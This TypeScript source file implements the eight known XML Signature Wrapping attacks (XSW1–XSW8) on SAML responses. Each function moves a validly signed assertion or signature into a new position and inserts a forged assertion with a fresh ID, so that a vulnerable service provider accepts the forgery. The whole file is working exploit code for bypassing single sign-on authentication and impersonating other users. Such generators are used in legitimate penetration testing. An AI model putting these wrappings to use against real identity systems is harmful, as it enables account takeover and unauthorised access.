/** An answer that was signed for one person, rearranged so that a reader could find another in it. */
type Wrapping = (answer: string, forged: (assertion: string) => string) => string

const ASSERTION = /<saml:Assertion[\s\S]*<\/saml:Assertion>/
const SIGNATURE = /<Signature[\s\S]*?<\/Signature>/

const assertionOf = (xml: string) => ASSERTION.exec(xml)![0]
const signatureOf = (xml: string) => SIGNATURE.exec(xml)![0]
const unsigned = (xml: string) => xml.replace(SIGNATURE, '')
const inside = (element: string, content: string, tag: string) =>
  element.replace(new RegExp(`</${tag}>$`), `${content}</${tag}>`)
const withNewId = (xml: string) => xml.replace(/ ID="[^"]+"/, ' ID="_otra"')
const withIssuerThen = (xml: string, content: string) =>
  xml.replace('</saml:Issuer>', `</saml:Issuer>${content}`)

/** The response in the place of the signed one, which goes into its signature or beside it. */
const aroundResponse =
  (place: (signature: string, original: string) => string): Wrapping =>
  (answer, forged) => {
    const signature = signatureOf(answer)
    const evil = forged(withNewId(answer.replace(signature, '')))
    return withIssuerThen(evil, place(signature, answer.replace(signature, '')))
  }

/** The eight forms of signature wrapping by the numbers they are known by; the first two need a signed response. */
export const WRAPPINGS: Record<string, Wrapping> = {
  XSW1: aroundResponse((signature, original) => inside(signature, original, 'Signature')),
  XSW2: aroundResponse((signature, original) => original + signature),
  XSW3: (answer, forged) => {
    const assertion = assertionOf(answer)
    return answer.replace(assertion, forged(withNewId(unsigned(assertion))) + assertion)
  },
  XSW4: (answer, forged) => {
    const assertion = assertionOf(answer)
    return answer.replace(
      assertion,
      inside(forged(withNewId(unsigned(assertion))), assertion, 'saml:Assertion'),
    )
  },
  XSW5: (answer, forged) => {
    const assertion = assertionOf(answer)
    return answer.replace(assertion, forged(withNewId(assertion)) + unsigned(assertion))
  },
  XSW6: (answer, forged) => {
    const assertion = assertionOf(answer)
    const signature = inside(signatureOf(assertion), unsigned(assertion), 'Signature')
    return answer.replace(assertion, withIssuerThen(forged(withNewId(unsigned(assertion))), signature))
  },
  XSW7: (answer, forged) => {
    const assertion = assertionOf(answer)
    const evil = forged(withNewId(unsigned(assertion)))
    return answer.replace(assertion, `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`)
  },
  XSW8: (answer, forged) => {
    const assertion = assertionOf(answer)
    const object = `<Object>${unsigned(assertion)}</Object>`
    const signature = inside(signatureOf(assertion), object, 'Signature')
    return answer.replace(assertion, withIssuerThen(forged(withNewId(unsigned(assertion))), signature))
  },
}
